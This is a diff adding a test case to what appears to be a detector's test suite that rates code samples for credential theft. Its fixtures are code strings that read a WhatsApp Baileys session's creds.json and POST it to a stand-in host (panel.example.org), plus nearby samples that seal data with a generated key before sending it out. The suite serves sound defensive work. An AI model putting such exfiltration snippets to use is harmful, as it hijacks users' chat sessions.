@@ -45,6 +45,13 @@ test('bad: the login of a chat goes to a server that is named; good: into a file
   assert.equal(worst('import makeWASocket from "baileys"; require("fs").writeFileSync("creds.json", JSON.stringify(config.auth.creds)); fetch(settings.store, { method: "PUT", body: JSON.stringify(config.auth.creds) })'), 'nothing');
 });
 
+test('bad: the file of a login goes to a server that is named; good: another file of it', () => {
+  const send = (file: string, library = '@whiskeysockets/baileys'): string => `const { useMultiFileAuthState } = require("${library}"); const fs = require("fs"), path = require("path"); exports.start = async (dir) => { const { state } = await useMultiFileAuthState(dir); const creds = fs.readFileSync(path.join(dir, "${file}"), "utf8"); await fetch("https://panel.example.org/session", { method: "POST", body: JSON.stringify({ creds }) }) }`;
+  assert.equal(worst(send('creds.json')), 'high');
+  assert.equal(worst(send('names.json')), 'nothing');
+  assert.equal(worst('const fs = require("fs"); exports.start = async (dir) => fetch("https://panel.example.org/session", { method: "POST", body: fs.readFileSync(dir + "/creds.json", "utf8") })'), 'nothing');
+});
+
 test('bad: a key that is made for it seals what is sent; good: a password, a key that the server tells, and servers of the settings', () => {
   const seal = (lock: string, to = '"https://s.example.org"', key = 'crypto.randomBytes(32)') => `const crypto = require("crypto"); const PEM = \`-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----\`; export function seal(data, given) { const key = ${key}; const c = crypto.createCipheriv("aes-256-gcm", key, iv); fetch(${to}, { method: "POST", body: JSON.stringify({ k: crypto.publicEncrypt(${lock}, key).toString("base64"), b: c.update(data, "utf8", "hex") }) }) }`;
   assert.equal(worst(seal('PEM')), 'high');
